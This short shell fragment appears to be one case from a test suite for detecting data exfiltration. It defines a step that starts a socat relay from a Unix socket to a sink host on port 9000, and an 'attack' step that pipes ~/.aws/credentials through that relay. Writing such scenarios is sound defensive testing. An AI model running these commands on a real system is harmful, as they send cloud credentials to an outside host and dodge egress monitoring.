# SPDX-License-Identifier: Apache-2.0
TITLE="a unix socket to a forwarder that runs already"
ROW="I07"
FORM=daemon NEEDS=socat
prepare() { setsid socat "UNIX-LISTEN:$WORK/relay,fork" "TCP:$SINK4:9000" & sleep 0.3; }
attack() { socat -u "OPEN:$HOME/.aws/credentials" "UNIX-CONNECT:$WORK/relay"; sleep 1; }
